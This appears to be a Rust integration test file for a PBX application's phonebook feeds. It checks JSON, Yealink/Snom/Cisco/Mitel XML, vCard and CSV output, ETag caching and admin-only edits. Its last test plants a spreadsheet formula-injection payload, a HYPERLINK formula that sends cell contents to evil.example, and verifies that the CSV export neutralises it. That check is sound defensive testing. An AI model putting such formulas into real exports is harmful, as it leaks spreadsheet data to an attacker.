//! The phonebook files phones fetch: built from the database (published extensions plus the
//! admin's entries), rendered once per change, served with a strong ETag and 304s.
//! The formats themselves are checked against the vendors' documents in src/phonebook/.

use eventpbx::domain::accounts::Role;
use reqwest::header::{CONTENT_TYPE, ETAG, IF_NONE_MATCH};
use reqwest::StatusCode;

use crate::web_support::{browser, spawn, TestApp};

async fn fetch(app: &TestApp, path: &str, etag: Option<&str>) -> reqwest::Response {
    let mut request = browser().get(app.url(path));
    if let Some(etag) = etag {
        request = request.header(IF_NONE_MATCH, etag);
    }
    request.send().await.unwrap()
}

fn etag(response: &reqwest::Response) -> String {
    response
        .headers()
        .get(ETAG)
        .expect("an ETag")
        .to_str()
        .unwrap()
        .to_string()
}

#[tokio::test]
async fn json_book_lists_published_extensions_and_admin_entries_with_an_etag() {
    let app = spawn().await;
    app.add_extension("2001", "Müller & <Söhne>", true).await;
    app.add_extension("2002", "Private", false).await;
    let admin = app.user_with_role("root", Role::Admin).await;
    let r = app
        .submit(
            &admin,
            "/admin",
            "/admin/phonebook",
            &[("name", "Help desk"), ("number", "1000")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);

    let r = fetch(&app, "/phonebook.json", None).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.headers()[CONTENT_TYPE], "application/json");
    assert_eq!(r.headers()["cache-control"], "no-cache");
    let tag = etag(&r);
    assert!(
        tag.starts_with('"') && tag.ends_with('"'),
        "strong ETag: {tag}"
    );
    let body: serde_json::Value = r.json().await.unwrap();
    assert_eq!(
        body,
        serde_json::json!([
            {"name": "Help desk", "number": "1000"},
            {"name": "Müller & <Söhne>", "number": "2001"},
        ])
    );

    // A phone that has it gets a 304 without a body; a stale tag gets the file again.
    let r = fetch(&app, "/phonebook.json", Some(&tag)).await;
    assert_eq!(r.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(etag(&r), tag);
    assert!(r.bytes().await.unwrap().is_empty());
    let r = fetch(&app, "/phonebook.json", Some("\"stale\"")).await;
    assert_eq!(r.status(), StatusCode::OK);
}

#[tokio::test]
async fn a_change_through_the_app_shows_at_once() {
    let app = spawn().await;
    app.add_extension("2001", "Alice", true).await;
    let first = fetch(&app, "/phonebook/yealink.xml", None).await;
    let tag = etag(&first);
    app.add_extension("2002", "Bob", true).await;
    let r = fetch(&app, "/phonebook/yealink.xml", Some(&tag)).await;
    assert_eq!(r.status(), StatusCode::OK, "the old tag no longer matches");
    assert_ne!(etag(&r), tag);
    assert!(r.text().await.unwrap().contains("Bob"));
}

#[tokio::test]
async fn a_change_by_another_process_shows_within_seconds() {
    let app = spawn().await;
    app.add_extension("2001", "Alice", true).await;
    let tag = etag(&fetch(&app, "/phonebook.csv", None).await);
    // The CLI writes through its own connection, which the app's write counter never sees.
    let path = app.state.db.path().to_path_buf();
    tokio::task::spawn_blocking(move || {
        let conn = rusqlite::Connection::open(path).unwrap();
        conn.execute(
            "UPDATE extensions SET name = 'Alice (orga)' WHERE number = '2001'",
            [],
        )
        .unwrap();
    })
    .await
    .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    loop {
        let r = fetch(&app, "/phonebook.csv", Some(&tag)).await;
        if r.status() == StatusCode::OK {
            assert!(r.text().await.unwrap().contains("Alice (orga)"));
            break;
        }
        assert_eq!(r.status(), StatusCode::NOT_MODIFIED);
        assert!(
            std::time::Instant::now() < deadline,
            "the change never reached the phonebook"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn every_format_is_served_and_parses() {
    let app = spawn().await;
    app.add_extension("2001", "Zoë \"Z\" O'Neil & Co <x>", true)
        .await;
    for (path, root) in [
        ("/phonebook/yealink.xml", "YealinkIPPhoneDirectory"),
        ("/phonebook/snom.xml", "SnomIPPhoneDirectory"),
        ("/phonebook/grandstream.xml", "AddressBook"),
        ("/phonebook/cisco.xml", "CiscoIPPhoneDirectory"),
        ("/phonebook/mitel.xml?q=zo", "AastraIPPhoneTextMenu"),
    ] {
        let r = fetch(&app, path, None).await;
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        assert_eq!(
            r.headers()[CONTENT_TYPE],
            "text/xml; charset=utf-8",
            "{path}"
        );
        assert!(r.headers().contains_key(ETAG), "{path}");
        let text = r.text().await.unwrap();
        let doc = roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{path}: {e}"));
        assert_eq!(doc.root_element().tag_name().name(), root, "{path}");
        let names: Vec<&str> = doc
            .descendants()
            .filter(|n| n.is_element())
            .filter_map(|n| n.text())
            .filter(|t| t.contains("Zoë"))
            .collect();
        assert_eq!(names, ["Zoë \"Z\" O'Neil & Co <x>"], "{path}: {text}");
    }

    let r = fetch(&app, "/phonebook.vcf", None).await;
    assert_eq!(r.headers()[CONTENT_TYPE], "text/vcard; charset=utf-8");
    let text = r.text().await.unwrap();
    assert_eq!(text.matches("BEGIN:VCARD\r\n").count(), 1);
    assert!(text.contains("TEL"), "{text}");

    let r = fetch(&app, "/phonebook.csv", None).await;
    assert!(r.headers()[CONTENT_TYPE]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = r.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][0], "Zoë \"Z\" O'Neil & Co <x>");
    assert_eq!(&rows[0][1], "2001");
}

#[tokio::test]
async fn cisco_pages_and_mitel_search() {
    let app = spawn().await;
    for i in 0..40 {
        app.add_extension(&format!("{}", 2000 + i), &format!("Person {i:02}"), true)
            .await;
    }
    let page2 = fetch(&app, "/phonebook/cisco.xml?page=2", None).await;
    assert_eq!(page2.status(), StatusCode::OK);
    let text = page2.text().await.unwrap();
    let doc = roxmltree::Document::parse(&text).unwrap();
    let entries = doc
        .root_element()
        .children()
        .filter(|n| n.has_tag_name("DirectoryEntry"))
        .count();
    assert_eq!(entries, 40 - 32, "page 2 holds the rest");
    for bad in ["0", "3"] {
        let r = fetch(&app, &format!("/phonebook/cisco.xml?page={bad}"), None).await;
        assert_eq!(r.status(), StatusCode::NOT_FOUND, "page {bad}");
    }
    let r = fetch(&app, "/phonebook/cisco.xml?page=two", None).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);

    let r = fetch(&app, "/phonebook/mitel.xml?q=person%2003", None).await;
    let text = r.text().await.unwrap();
    let doc = roxmltree::Document::parse(&text).unwrap();
    let prompts: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("Prompt"))
        .filter_map(|n| n.text())
        .collect();
    assert_eq!(prompts, ["Person 03"]);
}

#[tokio::test]
async fn admin_entries_are_checked_and_only_admins_may_change_them() {
    let app = spawn().await;
    let admin = app.user_with_role("root", Role::Admin).await;
    let before = app.count("SELECT value FROM change_counters").await;
    let r = app
        .submit(
            &admin,
            "/admin",
            "/admin/phonebook",
            &[("name", "Info"), ("number", "99x")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.unwrap().contains("The number must be"));
    assert_eq!(app.count("SELECT count(*) FROM phonebook_entries").await, 0);
    assert_eq!(app.count("SELECT value FROM change_counters").await, before);

    let attendee = app.user_with_role("alice", Role::Attendee).await;
    let r = app
        .submit(
            &attendee,
            "/account",
            "/admin/phonebook",
            &[("name", "Mine"), ("number", "123")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.count("SELECT count(*) FROM phonebook_entries").await, 0);

    let r = app
        .submit(
            &admin,
            "/admin",
            "/admin/phonebook",
            &[("name", "Info line"), ("number", "9950")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, html) = app.get(&admin, "/admin").await;
    assert!(html.contains("Info line"));
    let id = app.count("SELECT id FROM phonebook_entries").await;
    let r = app
        .submit(
            &admin,
            "/admin",
            &format!("/admin/phonebook/{id}/delete"),
            &[],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(app.count("SELECT count(*) FROM phonebook_entries").await, 0);
    for bad in ["999", "abc"] {
        let r = app
            .submit(
                &admin,
                "/admin",
                &format!("/admin/phonebook/{bad}/delete"),
                &[],
            )
            .await;
        assert_eq!(r.status(), StatusCode::NOT_FOUND, "{bad}");
        assert!(r.text().await.unwrap().contains("<html"), "a friendly page");
    }
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    // Through the API, the way any attendee-chosen name arrives, so the validation in between
    // is part of what is tested.
    let api = crate::api_support::Api::start().await;
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    for (number, name) in [("2001", hostile), ("2002", "@SUM(1+1)"), ("2003", "Plain")] {
        let (s, v) = api
            .rw(
                reqwest::Method::POST,
                "/extensions",
                Some(serde_json::json!({"number": number, "name": name, "kind": "handset"})),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    let text = fetch(&api.app, "/phonebook.csv", None)
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_string(), r[1].to_string())
        })
        .collect();
    let name = |number: &str| rows.iter().find(|(_, n)| n == number).unwrap().0.clone();
    assert_eq!(name("2001"), format!("'{hostile}"));
    assert_eq!(name("2002"), "'@SUM(1+1)");
    assert_eq!(name("2003"), "Plain");
    for (cell, _) in &rows {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    // The other formats are not spreadsheets: the name stays as it was given.
    let json = fetch(&api.app, "/phonebook.json", None)
        .await
        .text()
        .await
        .unwrap();
    assert!(json.contains("=HYPERLINK"), "{json}");
    assert!(!json.contains("'=HYPERLINK"), "{json}");
}
